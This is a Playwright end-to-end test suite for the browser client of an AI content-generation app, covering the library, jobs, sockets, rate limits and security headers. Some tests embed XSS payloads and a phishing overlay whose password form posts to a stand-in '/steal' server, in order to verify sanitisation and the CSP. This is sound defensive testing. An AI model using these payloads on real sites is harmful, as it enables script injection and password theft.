"""The web client in a real browser (Debian's Chromium driven by Playwright)
against the whole local stack: what a person does, step by step."""
import json
import re
import threading
import time
from pathlib import Path

import pytest

from tests.support import ROOT
from tests.support.web import TIMEOUT_MS, add_item, generate, register


def test_a_person_registers_and_manages_the_library(new_page):
    page = new_page()
    register(page)
    add_item(page, "Summer campaign", "# Sunny\n\n- beaches")
    add_item(page, "Winter notes", "Snow **everywhere**")
    assert page.locator("#library .item h3").all_inner_texts() == ["Winter notes",
                                                                   "Summer campaign"]
    assert page.locator("#library .item", has_text="Winter notes").locator("strong") \
        .inner_text() == "everywhere"

    page.get_by_label("Search the library").fill("sunny")
    page.wait_for_function("() => document.querySelectorAll('#library .item').length === 1")
    assert page.locator("#library .item h3").all_inner_texts() == ["Summer campaign"]

    item = page.locator("#library .item", has_text="Summer campaign")
    item.get_by_role("button", name="Edit").click()
    page.locator("#library form.item").get_by_label("Title").fill("Summer campaign v2")
    page.get_by_role("button", name="Save changes").click()
    page.locator("#library .item h3", has_text="Summer campaign v2").wait_for()

    page.once("dialog", lambda dialog: dialog.accept())
    page.locator("#library .item", has_text="Summer campaign v2") \
        .get_by_role("button", name="Delete").click()
    page.locator("#library .item", has_text="Summer campaign v2").wait_for(state="detached")


def test_contract_errors_are_shown_to_the_person(new_page):
    page = new_page()
    form = page.locator("#login-form")
    form.get_by_label("Email").fill("nobody@example.com")
    form.get_by_label("Password").fill("wrong")
    form.get_by_role("button", name="Log in").click()
    error = form.locator(".error")
    error.filter(has_text="Invalid credentials").wait_for()
    assert error.inner_text() == "Invalid credentials"


def test_a_generation_counts_down_arrives_over_the_socket_and_is_saved(new_page):
    page = new_page()
    register(page)
    page.locator("#socket-state", has_text="live").wait_for()
    job = generate(page, "Reusable water bottle")
    job.locator(".status", has_text=re.compile(r"Starting in \d+ s")).wait_for()
    job.locator(".status.completed").wait_for()
    assert "Content about: Reusable water bottle" in job.locator(".markdown").inner_text()
    job.get_by_label("Title (optional)").fill("Bottle copy")
    job.get_by_role("button", name="Save to library").click()
    job.get_by_text("Saved to your library.").wait_for()
    saved = page.locator("#library .item", has_text="Bottle copy")
    saved.wait_for()
    assert saved.locator(".badge").inner_text() == "Product Description"
    page.reload()
    page.locator("#jobs .job", has_text="Reusable water bottle").locator(
        ".status.completed").wait_for()


def test_another_person_sees_none_of_it(new_page):
    owner = new_page()
    register(owner, "Owner")
    add_item(owner, "Private notes", "mine")
    job = generate(owner, "Owner only prompt")
    stranger = new_page()
    register(stranger, "Stranger")
    stranger.locator("#socket-state", has_text="live").wait_for()
    job.locator(".status.completed").wait_for()
    stranger.wait_for_timeout(500)
    assert stranger.locator("#jobs .job").count() == 0
    assert stranger.locator("#library .item").count() == 0


def test_without_the_socket_the_result_arrives_by_polling(browser, stack):
    context = browser.new_context(base_url=stack.url)
    context.set_default_timeout(TIMEOUT_MS)
    context.route("**/socket.io/**", lambda route: route.abort())
    try:
        page = context.new_page()
        page.goto("/")
        register(page)
        page.locator("#socket-state", has_text="polling").wait_for()
        job = generate(page, "Polled prompt")
        job.locator(".status.completed").wait_for()
        assert "Content about: Polled prompt" in job.locator(".markdown").inner_text()
    finally:
        context.close()


def test_markup_in_a_body_renders_inert(new_page):
    page = new_page()
    register(page)
    dialogs = []
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    add_item(page, "Hostile", '<img src="x" onerror="window.pwned=1;alert(1)">'
                              '<script>window.pwned=2</script>\n\n[link](javascript:alert(3))')
    page.wait_for_timeout(500)
    assert page.evaluate("window.pwned") is None
    assert dialogs == []
    body = page.locator("#library .item", has_text="Hostile").locator(".markdown")
    assert body.locator("script").count() == 0
    assert body.locator("[onerror]").count() == 0
    assert "javascript:" not in body.inner_html()


def test_a_401_returns_the_person_to_the_login_page(new_page):
    page = new_page()
    register(page)
    page.evaluate("localStorage.setItem('access_token', 'not-a-valid-token')")
    page.reload()
    # The login form shows from the first paint; the token goes when the
    # 401 to /auth/me comes back.
    page.wait_for_function("() => localStorage.getItem('access_token') === null")
    assert page.locator("#login-form").is_visible()
    assert page.locator("#app-view").is_hidden()


def test_logout_clears_the_token_and_closes_the_socket(new_page):
    page = new_page()
    register(page)
    page.locator("#socket-state", has_text="live").wait_for()
    page.get_by_role("button", name="Log out", exact=True).click()
    page.locator("#login-form").wait_for()
    assert page.evaluate("localStorage.getItem('access_token')") is None


def test_the_generation_form_shows_what_is_left_and_a_429_in_place(new_page):
    from bson import ObjectId

    from chalicelib import db, limits
    page = new_page()
    email = register(page)
    usage = page.locator("#usage")
    usage.filter(has_text="Left: 5 of 5 at once · 100 of 100 in 24 h").wait_for()
    user_id = db.get().users.find_one({"email": email})["_id"]
    for _ in range(5):
        limits.take_generation_slot(ObjectId(user_id), str(ObjectId()))
    generate(page, "One too many")
    page.locator("#generate-form .error").filter(
        has_text="Active generation limit reached: 5 jobs queued or processing").wait_for()
    usage.filter(has_text="Left: 0 of 5 at once · 95 of 100 in 24 h").wait_for()
    assert page.locator("#jobs .job", has_text="One too many").count() == 0


def test_the_docs_page_renders_the_api_description_offline(browser, stack):
    context = browser.new_context(base_url=stack.url)
    context.set_default_timeout(TIMEOUT_MS)
    outside = []
    context.route(re.compile(r"^(?!" + re.escape(stack.url) + ")"),
                  lambda route: (outside.append(route.request.url), route.abort()))
    page = context.new_page()
    errors = []
    page.on("pageerror", lambda error: errors.append(str(error)))
    page.goto("/docs")
    page.get_by_role("heading", name=re.compile("AI Content Generator API")).first.wait_for()
    page.get_by_role("heading", name="Queue AI content generation").first.wait_for()
    context.close()
    assert (outside, errors) == ([], [])


def test_every_module_of_the_client_is_served_as_javascript(stack):
    import requests
    modules = sorted((ROOT / "web").glob("*.js"))
    served = {module.name: requests.get(f"{stack.url}/{module.name}", timeout=5)
              for module in modules}
    assert {name: (response.status_code, response.headers["Content-Type"])
            for name, response in served.items()} == {
        module.name: (200, "text/javascript") for module in modules}


def test_the_type_selects_fill_when_the_api_description_arrives(browser, stack):
    import requests
    listed = requests.get(f"{stack.url}/openapi.json", timeout=5).json()[
        "components"]["schemas"]["ContentType"]["enum"]
    context = browser.new_context(base_url=stack.url)
    context.set_default_timeout(TIMEOUT_MS)
    held = []
    context.route("**/openapi.json", lambda route: held.append(route))
    try:
        page = context.new_page()
        page.goto("/")
        register(page)
        selects = page.locator("select.content-types")
        assert selects.locator("option").count() == 0
        while not held:
            page.wait_for_timeout(50)
        held[0].continue_()
        # A function, not an expression: the page's CSP forbids the eval an
        # expression would need.
        page.wait_for_function("() => [...document.querySelectorAll('select.content-types')]"
                               ".every((select) => select.options.length > 0)")
        assert [select.locator("option").all_inner_texts()
                for select in selects.all()] == [listed, listed]
    finally:
        context.close()


def test_the_text_appears_as_it_is_written_and_cancel_stops_it(new_page):
    page = new_page()
    register(page)
    page.locator("#socket-state", has_text="live").wait_for()
    job = generate(page, "[long] A long story")
    job.locator(".markdown.streaming", has_text="word word").wait_for()
    job.get_by_role("button", name="Cancel").click()
    job.locator(".status.failed").wait_for()
    assert job.locator(".error").inner_text() == "Generation failed: Cancelled by the user"
    assert job.get_by_role("button", name="Cancel").count() == 0


def test_a_queued_job_is_cancelled_before_it_starts(new_page):
    page = new_page()
    register(page)
    job = generate(page, "Changed my mind")
    job.locator(".status", has_text=re.compile(r"Starting in \d+ s")).wait_for()
    job.get_by_role("button", name="Cancel").click()
    job.locator(".status.failed").wait_for()
    assert job.locator(".error").inner_text() == "Generation failed: Cancelled by the user"


def finished_job(new_page, prompt):
    """A new user's page and the card of its one job, once completed."""
    page = new_page()
    register(page)
    page.locator("#socket-state", has_text="live").wait_for()
    job = generate(page, prompt)
    job.locator(".status.completed").wait_for()
    return page, job


def test_tokens_and_cost_show_per_job_and_for_the_month(new_page):
    page, job = finished_job(new_page, "Priced prompt")
    spend = job.locator(".spend")
    spend.wait_for()
    assert re.fullmatch(r"\d+ tokens · \$0\.\d{6} · openai/gpt-4o-mini", spend.inner_text())
    page.locator("#month-usage", has_text="This month: 1 generations").wait_for()
    assert re.search(r"\d+ tokens · \$0\.\d{6}$", page.locator("#month-usage").inner_text())


def test_a_text_cut_at_the_length_limit_says_so(new_page):
    _, job = finished_job(new_page, "[cut] Endless")
    assert job.locator(".cut").inner_text() == \
        "Cut short at the length limit: the text may end mid-sentence."


def test_estimated_tokens_are_shown_as_estimated(new_page):
    _, job = finished_job(new_page, "[no-usage] Local model")
    assert re.fullmatch(r"about \d+ tokens \(estimated\) · \$0\.000000 · openai/gpt-4o-mini",
                        job.locator(".spend").inner_text())
    assert job.locator(".cut").count() == 0


class Outage:
    """Cuts the page off from the notifier (its websocket and its polling
    transport) and from job status polling; the socket can come back alone."""

    def __init__(self, context):
        self.socket_down = self.status_down = False
        self.sockets = []
        context.route("**/socket.io/**", lambda route: self._pass(route, self.socket_down))
        context.route(re.compile(r".*/generate-content/[^/]+$"),
                      lambda route: self._pass(route, self.status_down))
        context.route_web_socket(re.compile(r".*/socket\.io/.*"), self._socket)

    @staticmethod
    def _pass(route, down):
        route.abort() if down else route.continue_()

    def _socket(self, page_side):
        if self.socket_down:
            page_side.close()
            return
        self.sockets.append((page_side, page_side.connect_to_server()))

    def start(self):
        self.socket_down = self.status_down = True
        for page_side, server_side in self.sockets:
            page_side.close()
            server_side.close()
        self.sockets = []

    def restore_the_socket(self):
        self.socket_down = False


def test_a_result_finished_while_away_arrives_once_on_reconnect(browser, stack):
    context = browser.new_context(base_url=stack.url)
    context.set_default_timeout(TIMEOUT_MS)
    outage = Outage(context)
    try:
        page = context.new_page()
        page.goto("/")
        register(page)
        page.locator("#socket-state", has_text="live").wait_for()
        job = generate(page, "[trickle] Lid closed")
        job.locator(".status", has_text=re.compile(r"Starting in \d+ s")).wait_for()
        outage.start()
        page.locator("#socket-state", has_text="polling").wait_for()
        token = page.evaluate("localStorage.getItem('access_token')")
        wait_for_job_finished(stack.url, token, job.get_attribute("data-job"))
        # Polling stays cut off: only the socket's catch-up can bring the result.
        outage.restore_the_socket()
        job.locator(".status.completed").wait_for()
        page.locator("#socket-state", has_text="live").wait_for()
        page.wait_for_timeout(500)
        assert page.locator("#jobs .job", has_text="Lid closed").count() == 1
        assert job.locator(".markdown").count() == 1
        assert "Content about: [trickle] Lid closed" in job.locator(".markdown").inner_text()
    finally:
        context.close()


def wait_for_job_finished(url, token, job_id, timeout=20):
    import requests
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        job = requests.get(f"{url}/generate-content/{job_id}", timeout=5,
                           headers={"Authorization": f"Bearer {token}"}).json()
        if job["status"] not in ("queued", "processing"):
            return job
        time.sleep(0.2)
    raise AssertionError(f"job {job_id} did not finish")


SECURITY_HEADERS = json.loads((ROOT / "infra" / "web-headers.json").read_text())


@pytest.mark.parametrize("path", ["/", "/app.js", "/style.css", "/vendor/purify.es.js"])
def test_the_client_and_its_assets_are_served_with_the_security_headers(stack, path):
    import requests
    response = requests.get(f"{stack.url}{path}", timeout=5)
    assert response.status_code == 200
    assert {name: response.headers.get(name) for name in SECURITY_HEADERS} == SECURITY_HEADERS


def test_the_policy_is_strict(stack):
    policy = dict(directive.strip().split(" ", 1) for directive in
                  SECURITY_HEADERS["Content-Security-Policy"].split(";"))
    assert (policy["default-src"], policy["script-src"], policy["style-src"],
            policy["img-src"], policy["frame-ancestors"]) == \
        ("'self'", "'self'", "'self'", "'self' data:", "'none'")


class Remote:
    """A loopback server standing in for somewhere else on the internet; it
    records every request that reaches it."""

    def __init__(self):
        from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
        requests = self.requests = []

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self):
                requests.append(self.path)
                self.send_response(204)
                self.end_headers()

            do_POST = do_GET

            def log_message(self, *args):
                pass

        self._server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self._server.server_port}"
        threading.Thread(target=self._server.serve_forever, daemon=True).start()

    def stop(self):
        self._server.shutdown()
        self._server.server_close()


@pytest.fixture
def remote():
    started = Remote()
    yield started
    started.stop()


def hostile_markdown(remote_url):
    return ("\n\n<style>body { background: rgb(255, 0, 0) }</style>\n\n"
            '<div class="overlay" style="position: fixed; inset: 0; '
            'background: rgb(0, 0, 255)">Session expired</div>\n\n'
            f'<form action="{remote_url}/steal"><input name="password" type="password">'
            "<button>Log in again</button></form>\n\n"
            f'<img alt="beacon" src="{remote_url}/beacon.png">'
            f'<img alt="set" srcset="{remote_url}/set.png 2x">'
            '<img alt="broken" src="x" onerror="window.pwned = 1">\n\n'
            f'<iframe src="{remote_url}/frame"></iframe>'
            f'<video poster="{remote_url}/poster.png"></video>\n\n'
            "<script>window.pwned = 2</script>\n\n"
            '<img alt="inline" src="data:image/gif;base64,R0lGODlhAQABAAAAACw=">')


def watched(page):
    """The page's dialogs, and its body's background before anything
    hostile arrived."""
    dialogs = []
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    return dialogs, page.evaluate("getComputedStyle(document.body).backgroundColor")


def assert_inert(page, box, remote, dialogs, background):
    box.locator("img[alt=inline]").wait_for(state="attached")
    page.wait_for_timeout(500)
    assert box.locator("style, form, input, button, iframe, script, [style], [srcset], "
                       "[onerror]").count() == 0
    assert box.locator("img[alt=beacon]").get_attribute("src") is None
    assert box.locator("video").get_attribute("poster") is None
    assert box.locator("img[alt=inline]").get_attribute("src").startswith("data:image/gif")
    assert page.evaluate("getComputedStyle(document.body).backgroundColor") == background
    assert (page.evaluate("window.pwned"), dialogs, remote.requests) == (None, [], [])


def test_hostile_markdown_in_a_generated_result_does_nothing(new_page, remote):
    page = new_page()
    register(page)
    dialogs, background = watched(page)
    marker = f"Hostile result {time.monotonic_ns()}"
    form = page.locator("#generate-form")
    form.get_by_label("What should it be about?").fill(marker + hostile_markdown(remote.url))
    form.get_by_role("button", name="Generate").click()
    job = page.locator("#jobs .job", has_text=marker)
    job.locator(".status.completed").wait_for()
    assert_inert(page, job.locator(".markdown"), remote, dialogs, background)


def test_hostile_markdown_in_a_library_item_does_nothing(new_page, remote):
    page = new_page()
    register(page)
    dialogs, background = watched(page)
    add_item(page, "Hostile item", "Notes" + hostile_markdown(remote.url))
    box = page.locator("#library .item", has_text="Hostile item").locator(".markdown")
    assert_inert(page, box, remote, dialogs, background)


def test_the_policy_refuses_inline_script_and_remote_images_past_the_sanitiser(new_page,
                                                                              remote):
    page = new_page()
    ran = page.evaluate(f"""() => new Promise((resolve) => {{
        const script = document.createElement("script");
        script.textContent = "window.inline = 1";
        document.head.append(script);
        const image = new Image();
        image.onload = image.onerror = () => resolve(window.inline ?? null);
        image.src = "{remote.url}/beacon.png";
    }})""")
    page.wait_for_timeout(300)
    assert (ran, remote.requests) == (None, [])


def test_the_client_works_under_its_policy_without_a_violation(new_page):
    page = new_page()
    violations = []
    page.on("console", lambda message: "Content Security Policy" in message.text
            and violations.append(message.text))
    register(page)
    page.locator("#socket-state", has_text="live").wait_for()
    add_item(page, "Under the policy",
             "**bold** and ![dot](data:image/gif;base64,R0lGODlhAQABAAAAACw=)")
    job = generate(page, "Policy prompt")
    job.locator(".status.completed").wait_for()
    assert violations == []


def test_options_and_three_variants_side_by_side_one_picked_and_saved(new_page):
    page = new_page()
    register(page)
    form = page.locator("#generate-form")
    form.get_by_label("Content type").select_option("Social Media Caption")
    form.get_by_label("Tone").fill("playful")
    form.get_by_label("Variants").select_option("3")
    form.get_by_label("Platform").select_option("x")
    form.get_by_label("What should it be about?").fill("Picnic blanket")
    form.get_by_role("button", name="Generate").click()
    job = page.locator("#jobs .job", has_text="Picnic blanket")
    job.locator(".status.completed").wait_for()
    variants = job.locator(".variant")
    variants.nth(2).locator(".count").filter(has_text="characters (X)").wait_for()
    assert variants.count() == 3
    assert re.fullmatch(r"\d+ / 280 characters \(X\)", variants.nth(0).locator(".count")
                        .inner_text())
    third = variants.nth(2).locator(".markdown").inner_text()
    variants.nth(2).get_by_role("button", name="Use this one").click()
    job.get_by_label("Title (optional)").fill("Picked")
    job.get_by_role("button", name="Save to library").click()
    item = page.locator("#library .item", has_text="Picked")
    item.wait_for()
    assert item.locator(".markdown").inner_text() == third
    # The options are remembered for the content type.
    page.reload()
    page.locator("#who").wait_for()
    page.locator("#generate-form").get_by_label("Content type").select_option(
        "Social Media Caption")
    assert page.locator("#generate-form").get_by_label("Tone").input_value() == "playful"


def test_an_item_is_rewritten_and_the_original_replaced(new_page):
    page = new_page()
    register(page)
    add_item(page, "Rough draft", "Our tea is good.")
    item = page.locator("#library .item", has_text="Rough draft")
    item.get_by_role("button", name="Rewrite").click()
    item.get_by_label("Rewrite").select_option("improve")
    item.get_by_role("button", name="Queue the rewrite").click()
    job = page.locator("#jobs .job", has_text="Rough draft")
    job.locator(".status.completed").wait_for()
    job.get_by_role("button", name="Replace the original").click()
    job.locator(".saved", has_text="The original was replaced.").wait_for()
    page.locator("#library .item", has_text="Content about:").wait_for()
    assert page.locator("#library .item h3").all_inner_texts() == ["Rough draft"]


def test_an_item_is_exported_as_markdown_and_html(new_page):
    page = new_page()
    register(page)
    add_item(page, "Export me", "# Heading\n\n**bold**")
    item = page.locator("#library .item", has_text="Export me")
    with page.expect_download() as markdown_file:
        item.get_by_role("button", name="Export .md").click()
    assert markdown_file.value.suggested_filename == "export-me.md"
    assert Path(markdown_file.value.path()).read_text() == "# Heading\n\n**bold**"
    with page.expect_download() as html_file:
        item.get_by_role("button", name="Export .html").click()
    assert html_file.value.suggested_filename == "export-me.html"
    assert "<h1>Heading</h1>\n<p><strong>bold</strong></p>" in Path(
        html_file.value.path()).read_text()


def test_a_brand_voice_is_added_in_the_side_panel_and_offered_to_generations(new_page):
    page = new_page()
    register(page)
    form = page.locator("#voice-form")
    form.get_by_label("Voice name").fill("Cheerful")
    form.get_by_label("Sample 1").fill("Hello, sunshine!")
    form.get_by_role("button", name="Add voice").click()
    page.locator("#voices .voice", has_text="Cheerful").wait_for()
    assert "1 sample text(s)" in page.locator("#voices .voice").inner_text()
    voice = page.locator("#generate-form").get_by_label("Brand voice")
    assert voice.locator("option").all_inner_texts() == ["—", "Cheerful"]
